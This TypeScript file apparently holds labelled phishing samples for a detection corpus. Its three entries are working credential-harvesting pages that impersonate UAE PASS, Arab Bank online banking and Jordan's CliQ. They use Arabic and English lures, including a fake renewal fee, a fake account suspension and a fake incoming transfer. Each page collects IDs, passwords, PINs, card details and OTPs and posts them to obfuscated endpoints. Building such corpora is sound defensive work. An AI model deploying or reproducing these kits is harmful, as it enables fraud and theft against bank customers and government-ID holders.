import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { BOT_GATE, FONT_AR, LOGO, LUHN_JS, NO_INSPECT, b64, chunks, codes, doc, telegramDrop, xorB64, xorDecoderJs } from '../parts/yu-kit.js';

// UAE and Jordan kits: Emirates NBD and ADCB online banking, UAE PASS, Aramex and Salik smishing,
// Arab Bank and the Jordanian CliQ instant-payment lure. Arabic and English, often both on one page.

export const entries: Entry[] = [
{
  id: 'yu-uaepass-login-push-fee',
  label: 'phishing',
  kind: 'gulf-gov-identity-kit',
  url: 'https://uaepass-id.gov-ae.services/idshub/login?client=mohre',
  body: doc({
    title: 'UAE PASS - Login | الهوية الرقمية',
    lang: 'en',
    css: `body{margin:0;background:#f5f7f6;font-family:Arial,${FONT_AR}}.c{max-width:400px;margin:40px auto;background:#fff;padding:30px;border-radius:10px;box-shadow:0 2px 12px rgba(0,0,0,.08);text-align:center}
input{width:100%;box-sizing:border-box;padding:13px;border:1px solid #cdd5d1;border-radius:6px;margin:10px 0;font-size:15px}.b{width:100%;background:#00843d;color:#fff;border:0;padding:13px;border-radius:6px;font-size:16px}
.ar{direction:rtl;font-family:${FONT_AR}}.s{display:none}.s.on{display:block}.ring{width:70px;height:70px;border:6px solid #e3efe8;border-top-color:#00843d;border-radius:50%;margin:20px auto;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}`,
    body: `<div class="c">${LOGO.uaepass}
<div class="s on" id="s1"><h3>Login to UAE PASS</h3><p class="ar">تسجيل الدخول إلى الهوية الرقمية</p>
<input id="eid" placeholder="Emirates ID, email or phone (05xxxxxxxx)"><button class="b" id="b1">Login</button></div>
<div class="s" id="s2"><div class="ring"></div><p>Confirm the login request on the UAE PASS app, then enter the PIN you used.</p><input id="pin" type="password" maxlength="6" placeholder="UAE PASS PIN"><button class="b" id="b2">Continue</button></div>
<div class="s" id="s3"><h3>Service fee</h3><p>Your Emirates ID linked services require an annual digital identity renewal fee of <b>AED 25.00</b>.</p><p class="ar">رسوم تجديد الهوية الرقمية 25 درهم</p>
<input id="cn" placeholder="Card number"><input id="ce" placeholder="MM/YY"><input id="cc" placeholder="CVV"><button class="b" id="b3">Pay AED 25.00</button></div></div>
<script>
var K=atob("${b64('/idshub/collect')}");function p(d){return fetch(K,{method:"POST",body:new URLSearchParams(d)})}
function g(n){document.querySelectorAll(".s").forEach(function(x){x.classList.remove("on")});document.getElementById(n).classList.add("on")}
function v(i){return document.getElementById(i).value}
document.getElementById("b1").onclick=function(){p({eid:v("eid")});g("s2")};
document.getElementById("b2").onclick=function(){p({eid:v("eid"),pin:v("pin")});g("s3")};
document.getElementById("b3").onclick=function(){p({eid:v("eid"),cn:v("cn"),ce:v("ce"),cc:v("cc")}).then(function(){location.href="https://uaepass.ae"})};
</script>`,
  }),
  routes: { 'uaepass-id.gov-ae.services/idshub/collect': jsonRoute({}) },
},
{
  id: 'yu-arabbank-jordan-arabi-online',
  label: 'phishing',
  kind: 'jordan-bank-credential-kit',
  url: 'https://arabi-online.jo-secure.net/arabiOnline/ar/login.html',
  body: doc({
    title: 'عربي أونلاين - البنك العربي',
    lang: 'ar',
    css: `body{margin:0;font-family:${FONT_AR};background:#f4eeee}.h{background:#fff;padding:12px 22px;border-bottom:2px solid #a6192e}
.bx{max-width:420px;margin:34px auto;background:#fff;padding:26px;border-radius:6px}h2{color:#a6192e}input{width:100%;box-sizing:border-box;padding:12px;margin:6px 0 12px;border:1px solid #c9b6b9;border-radius:4px}
button{width:100%;background:#a6192e;color:#fff;border:0;padding:13px;border-radius:4px;font-size:16px}`,
    body: `<div class="h">${LOGO.arabbank}</div>
<div class="bx"><h2>تسجيل الدخول إلى عربي أونلاين</h2>
<p style="font-size:14px">عميلنا العزيز، تم تعليق خدمة عربي أونلاين لحسابك لعدم تحديث البيانات حسب تعليمات البنك المركزي الأردني.</p>
<form id="ab"><input name="user" placeholder="اسم المستخدم" required><input name="pass" type="password" placeholder="كلمة المرور" required>
<input name="nid" placeholder="الرقم الوطني" required><input name="mob" placeholder="رقم الهاتف 07XXXXXXXX" required><button>دخول</button></form></div>
<script>
var _s=${chunks('/arabiOnline/ar/srv/ok.php', 5)}.join("");
document.getElementById("ab").addEventListener("submit",function(e){e.preventDefault();var x=new XMLHttpRequest();x.open("POST",_s);x.onload=function(){location.href="/arabiOnline/ar/otp.html"};x.send(new FormData(this))});
</script>`,
  }),
  routes: {
    'arabi-online.jo-secure.net/arabiOnline/ar/srv/ok.php': jsonRoute({ ok: 1 }),
    'arabi-online.jo-secure.net/arabiOnline/ar/otp.html': htmlRoute(
      doc({
        title: 'عربي أونلاين - رمز التحقق',
        lang: 'ar',
        css: `body{font-family:${FONT_AR};text-align:center;padding:40px}`,
        body: `${LOGO.arabbank}<h3>أدخل رمز التحقق المرسل إلى هاتفك</h3><form method="post" action="srv/ok.php"><input name="otp" maxlength="6"><button>تأكيد</button></form>`,
      }),
    ),
  },
},
{
  id: 'yu-cliq-jordan-incoming-transfer',
  label: 'phishing',
  kind: 'jordan-instant-payment-lure',
  url: 'https://cliq-jo.receive-transfer.xyz/t/?alias=AHMAD88&amt=350',
  body: doc({
    title: 'CliQ - استلام حوالة فورية',
    lang: 'ar',
    css: `body{margin:0;font-family:${FONT_AR};background:#eef4fb}.top{background:#0a3d7a;color:#fff;text-align:center;padding:18px;font:700 28px Arial}
.b{max-width:400px;margin:20px auto;background:#fff;border-radius:12px;padding:22px}.amt{text-align:center;font-size:34px;color:#0a3d7a;font-weight:700}
select,input{width:100%;box-sizing:border-box;padding:11px;margin:6px 0;border:1px solid #b8c8dd;border-radius:8px}button{width:100%;background:#0a3d7a;color:#fff;border:0;padding:13px;border-radius:8px;margin-top:8px}`,
    body: `<div class="top">CliQ</div><div class="b"><p style="text-align:center">لديك حوالة فورية واردة من AHMAD88</p><div class="amt">350.000 JOD</div>
<p style="font-size:13px">لاستلام الحوالة، اختر بنكك وأدخل بيانات الدخول للتطبيق البنكي لتأكيد الاسم المستعار.</p>
<form id="q"><select name="bank"><option>البنك العربي</option><option>بنك الإسكان</option><option>البنك الأهلي الأردني</option><option>بنك الاتحاد</option><option>بنك القاهرة عمان</option></select>
<input name="u" placeholder="اسم المستخدم" required><input name="p" type="password" placeholder="كلمة المرور" required><input name="m" placeholder="رقم الهاتف" required><button>استلام الحوالة</button></form></div>
<script>
var a=String.fromCharCode(${codes('/t/rcv')});
document.getElementById("q").onsubmit=function(e){e.preventDefault();fetch(a,{method:"POST",body:new FormData(this)}).finally(function(){document.querySelector(".b").innerHTML="<p>جارٍ التحقق… أدخل رمز OTP المرسل من البنك</p><form method='post' action='/t/rcv'><input name='otp'><button>تأكيد</button></form>"})};
</script>`,
  }),
  routes: { 'cliq-jo.receive-transfer.xyz/t/rcv': jsonRoute({ ok: 1 }) },
},
];
